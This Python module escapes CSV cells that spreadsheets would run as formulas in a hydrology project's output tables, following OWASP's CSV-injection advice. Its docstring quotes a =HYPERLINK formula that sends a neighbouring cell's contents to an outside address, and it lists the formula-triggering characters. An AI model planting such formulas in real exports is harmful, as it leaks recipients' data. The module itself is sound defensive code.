"""CSV tables for spreadsheets: a text cell Excel or LibreOffice would run as a formula is written as text.

Names in hydro's CSV outputs (payments, incentives, the scenarios' summary, GEP, payment uncertainty) come
from input files that agencies exchange: an agreement's ``payer``, a monitoring CSV's section, a county's
name.  A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to a
spreadsheet (``=HYPERLINK("http://...?"&A1, ...)`` sends a neighbouring cell away when the table is opened;
security review, 2026-12-06), so such a text cell is written with a leading apostrophe, the spreadsheets'
own mark of text (OWASP's advice for CSV injection).  Numbers, written as text by the tables (``-1.5``,
``-inf``), are left as they are: they read as numbers, not formulas.
"""

from __future__ import annotations

import csv
from typing import Any

#: What a spreadsheet takes a cell to be a formula by.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet reads as text: a string beginning with one of
    :data:`FORMULA_START` that is not a number gets a leading ``'``; anything else unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    try:
        float(value)
    except ValueError:
        return "'" + value
    return value


class SpreadsheetWriter:
    """:func:`csv.writer` whose rows pass every cell through :func:`spreadsheet_cell`."""

    def __init__(self, fh, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row) -> None:
        """Write one row, text cells made safe."""
        self._writer.writerow([spreadsheet_cell(c) for c in row])
